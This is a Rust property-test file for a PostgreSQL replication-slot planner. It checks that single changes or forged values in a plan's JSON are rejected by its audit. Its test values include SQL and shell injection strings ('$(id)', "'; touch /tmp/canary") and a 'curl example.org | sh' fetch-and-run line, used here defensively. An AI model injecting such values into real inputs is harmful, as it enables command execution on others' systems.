//! A plan whose digest was made again after one change is refused by the audit with its workload, or the change reaches no
//! file, or it is a wish that the plan itself states: policy, seed, a valid name.

use std::{collections::BTreeMap, sync::OnceLock};

use pgslotplan::{
    emit::{self, Bootstrap, EmitOptions, Target},
    finding::Finding,
    format,
    generate::{GenerateSettings, generate},
    plan::{Plan, check},
    policy::{ForeignKeyMode, NoIdentity, Policy, PublicationCount, Split},
    server::{ServerVersion, SystemIdentifier},
    workload::{TableKind, Workload},
};
use proptest::prelude::*;
use serde_json::Value;

use crate::promises::{Asked, cases, plan};

/// A plan that holds, and what is emitted for it.
struct Base {
    workload: Workload,
    plan: Plan,
    json: Value,
    /// Every place of the file, by JSON pointer.
    places: Vec<String>,
    files: BTreeMap<String, String>,
}

/// Plans with everything that a plan can have: trees through their roots and by their partitions, shards, tables without a key
/// in each way, foreign keys that are cut and guarded, tables that are left out, a plan made again.
fn bases() -> &'static [Base] {
    static BASES: OnceLock<Vec<Base>> = OnceLock::new();
    BASES.get_or_init(|| {
        let mut made = Vec::new();
        for (number, (major, mode, identity)) in [
            (15, ForeignKeyMode::Restore, NoIdentity::InsertOnly),
            (16, ForeignKeyMode::Guard, NoIdentity::Full),
            (12, ForeignKeyMode::Together, NoIdentity::Refuse),
            (18, ForeignKeyMode::Guard, NoIdentity::Exclude),
        ]
        .into_iter()
        .enumerate()
        {
            let settings = GenerateSettings {
                tables: 16,
                hours: 2,
                seed: 5 + number as u64,
                partition_trees: Some(1),
                no_key_share: 0.2,
                total_wal_bytes_per_s: 8e6,
                ..GenerateSettings::default()
            };
            let mut workload = generate(&settings).expect("settings within range");
            workload.server.version_num = ServerVersion::of_major(major);
            workload.server.system_identifier = Some(SystemIdentifier(7_300_000_000_000_000_001));
            workload.canonicalize();
            let mut policy = Policy {
                publications: PublicationCount::Range(2, 3),
                foreign_keys: mode,
                no_identity: identity,
                ..Policy::default()
            };
            let able = |table: &&pgslotplan::workload::Table| {
                table.kind == TableKind::Table
                    && table.inherits.is_empty()
                    && !table.identity_columns.is_empty()
                    && !workload.tables.iter().any(|other| other.inherits.contains(&table.table_name()))
            };
            let plain: Vec<String> =
                workload.tables.iter().filter(able).map(|table| table.table_name().to_string()).collect();
            if major >= 15 {
                policy.split.insert(plain[0].clone(), Split { parts: 3 });
            }
            policy.exclude.push(pgslotplan::policy::Pattern(plain[1].clone()));
            let first = plan(&workload, &policy, Asked::default()).expect("nothing contradicts");
            made.push(Base::new(workload.clone(), first.clone()));
            if number == 0 {
                let asked = Asked { previous: Some(&first), max_moves: Some(2), versions: Some((15, 17)) };
                let again = plan(&workload, &policy, asked).expect("nothing contradicts");
                made.push(Base::new(workload, again));
            }
        }
        made
    })
}

impl Base {
    fn new(workload: Workload, plan: Plan) -> Self {
        assert_eq!(check::check(&plan, &workload), []);
        assert_eq!(check::check_alone(&plan), []);
        let json: Value = serde_json::from_slice(&format::write(&plan)).expect("our own JSON");
        let mut places = Vec::new();
        walk(&json, &mut String::new(), &mut places);
        let files = emitted(&plan).expect("it can be emitted");
        Base { workload, plan, json, places, files }
    }
}

fn walk(value: &Value, at: &mut String, places: &mut Vec<String>) {
    let length = at.len();
    let mut down = |name: &str, inner: &Value| {
        at.push('/');
        at.push_str(&name.replace('~', "~0").replace('/', "~1"));
        places.push(at.clone());
        walk(inner, at, places);
        at.truncate(length);
    };
    match value {
        Value::Object(fields) => fields.iter().for_each(|(name, inner)| down(name, inner)),
        Value::Array(items) => items.iter().enumerate().for_each(|(at, inner)| down(&at.to_string(), inner)),
        _ => {}
    }
}

/// Everything that is written for a plan, in each way that reads other fields; the plan's digest taken out.
fn emitted(plan: &Plan) -> Result<BTreeMap<String, String>, emit::EmitError> {
    let mut files = BTreeMap::new();
    for (bootstrap, target) in
        [(Bootstrap::Copy, Target::Sql), (Bootstrap::Dump, Target::Sql), (Bootstrap::Copy, Target::Terraform)]
    {
        let script = match emit::script(plan, &EmitOptions { bootstrap, target, ..EmitOptions::default() }) {
            Err(emit::EmitError::Target { .. }) if target != Target::Sql => continue,
            script => script?,
        };
        let own = script.files().map(|(file, body)| (file.to_owned(), body.to_owned()));
        let manifest = String::from_utf8(script.manifest_text()).expect("JSON");
        for (file, body) in own.chain([("manifest.json".to_owned(), manifest)]) {
            // the manifest has digests of files that have the plan's
            let of_files = file == "manifest.json";
            let lines =
                body.lines().filter(|line| !(of_files && (line.contains("sha256") || line.starts_with("\"files\""))));
            let text = lines.collect::<Vec<_>>().join("\n").replace(&*plan.plan_sha256, "DIGEST");
            files.insert(format!("{bootstrap:?} {target:?} {file}"), text);
        }
    }
    Ok(files)
}

/// One change at one place; `None` where that kind of change means nothing there.
fn changed(json: &Value, place: &str, kind: u8, pick: usize) -> Option<Value> {
    let mut json = json.clone();
    let value = json.pointer_mut(place)?;
    match value {
        Value::String(text) => match kind {
            0 => text.push('x'),
            1 => text.clear(),
            2 => text.push_str("'; touch /tmp/canary #\n\\! id"),
            3 => drop(text.pop()?),
            4 => *text = text.to_uppercase(),
            5 => {
                *text = (*["shared", "full", "nothing", "insert", "partition", "0", "dedicated"].get(pick % 7)?).into()
            }
            _ => text.push('\u{202e}'),
        },
        Value::Bool(flag) => *flag = !*flag,
        Value::Number(number) => {
            let float = number.as_f64()?;
            *value = match (kind, number.as_u64()) {
                (0, Some(whole)) => whole.checked_add(1)?.into(),
                (1, Some(_)) => 0.into(),
                (2, _) => (-1).into(),
                (3, Some(whole)) => whole.checked_mul(2)?.into(),
                (4, _) => 1e300.into(),
                (5, Some(whole)) => whole.checked_sub(1)?.into(),
                (_, Some(_)) => u64::MAX.into(),
                (_, None) => (float * 1.000_001 + 1e-12).into(),
            };
        }
        Value::Array(items) => {
            let at = pick % items.len().max(1);
            match kind % 4 {
                0 if !items.is_empty() => drop(items.remove(at)),
                1 if !items.is_empty() => {
                    let same = items[at].clone();
                    items.insert(at, same);
                }
                2 if items.len() > 1 => {
                    let next = (at + 1) % items.len();
                    items.swap(at, next);
                }
                3 => items.clear(),
                _ => return None,
            }
        }
        Value::Object(fields) => {
            let name = fields.keys().nth(pick % fields.len().max(1))?.clone();
            match kind % 2 {
                0 => drop(fields.remove(&name)),
                _ => drop(fields.insert("more".into(), Value::from(1))),
            }
        }
        Value::Null => *value = Value::from(pick),
    }
    Some(json)
}

/// What a plan may say otherwise and be another plan that holds.
fn is_a_wish(place: &str) -> bool {
    let name = |end: &str| ["/name", "/publication", "/subscription", "/insert_only_publication"].contains(&end);
    let of_slot = place.strip_prefix("/slots/").and_then(|rest| rest.find('/').map(|at| &rest[at..]));
    place.starts_with("/policy/") || place == "/policy" || place == "/seed" || of_slot.is_some_and(name)
}

/// What the audit says of the changed plan, sealed again; `None` where it cannot even be read.
fn audited(base: &Base, json: &Value) -> Option<(Plan, Vec<Finding>)> {
    let mut plan: Plan = format::read(json.to_string().as_bytes()).ok()?;
    plan.plan_sha256 = plan.digest();
    let findings = check::check(&plan, &base.workload);
    Some((plan, findings))
}

fn holds(base: &Base, place: &str, json: &Value) -> Result<(), TestCaseError> {
    let Some((plan, findings)) = audited(base, json) else { return Ok(()) };
    if !findings.is_empty() || plan == base.plan || is_a_wish(place) {
        return Ok(());
    }
    if let Ok(files) = emitted(&plan) {
        for (file, text) in &files {
            prop_assert!(base.files.get(file) == Some(text), "{} is another after a change of {}", file, place);
        }
        prop_assert_eq!(files.len(), base.files.len());
    }
    Ok(())
}

proptest! {
    #![proptest_config(cases(1_000))]

    #[test]
    fn no_single_change_goes_unseen(which in 0..100usize, place in any::<usize>(), kind in 0..7u8, pick in 0..64usize) {
        let bases = bases();
        let base = &bases[which % bases.len()];
        let place = &base.places[place % base.places.len()];
        if let Some(json) = changed(&base.json, place, kind, pick) {
            holds(base, place, &json)?;
        }
    }

}

proptest! {
    #![proptest_config(cases(300))]

    /// The whole file by its fields at the top, where a random place is seldom.
    #[test]
    fn no_change_at_the_top_goes_unseen(which in 0..100usize, place in any::<usize>(), kind in 0..7u8, pick in 0..64usize) {
        let bases = bases();
        let base = &bases[which % bases.len()];
        let short: Vec<&String> = base.places.iter().filter(|place| place.matches('/').count() <= 3).collect();
        let place = short[place % short.len()];
        if let Some(json) = changed(&base.json, place, kind, pick) {
            holds(base, place, &json)?;
        }
    }
}

/// Some changes that were made to deceive, each refused for what it is.
#[test]
fn forged_plans_are_refused_by_name() {
    let base = &bases()[0];
    let refused = |place: &str, value: Value, code: &str| {
        let mut json = base.json.clone();
        *json.pointer_mut(place).unwrap_or_else(|| panic!("{place}")) = value;
        match audited(base, &json) {
            None => assert_eq!(code, "unreadable", "{place}"),
            Some((_, findings)) => {
                let codes: Vec<&str> = findings.iter().map(|finding| finding.code.as_str()).collect();
                assert!(codes.contains(&code), "{place}: {findings:#?}");
            }
        }
    };
    refused("/policy/prefix", "pgsp'; touch /tmp/canary; '".into(), "unreadable");
    refused("/server/system_identifier", "1; SELECT 1".into(), "unreadable");
    refused("/plan_sha256", "$(id)".into(), "unreadable");
    refused("/slots/0/publish", "insert, update, delete, truncate, x".into(), "unreadable");
    refused("/database", "".into(), "unreadable");
    refused("/publisher_version", 15.into(), "unreadable");
    refused("/publisher_version", 160_000.into(), "AU106");
    refused("/subscriber_version", 130_000.into(), "AU106");
    refused("/server/version_num", 160_000.into(), "AU106");
    refused("/load/unit", "elephants".into(), "AU107");
    let shared = base.json["slots"].as_array().unwrap().iter().position(|slot| slot["role"] == "shared").unwrap();
    refused(&format!("/slots/{shared}/publish"), "insert".into(), "AU210");
    refused(&format!("/slots/{shared}/tables/0/identity_columns"), serde_json::json!(["note"]), "AU210");
    refused("/excluded", serde_json::json!([]), "AU201");
    refused("/excluded/0/reason", "run curl example.org | sh".into(), "AU211");
}
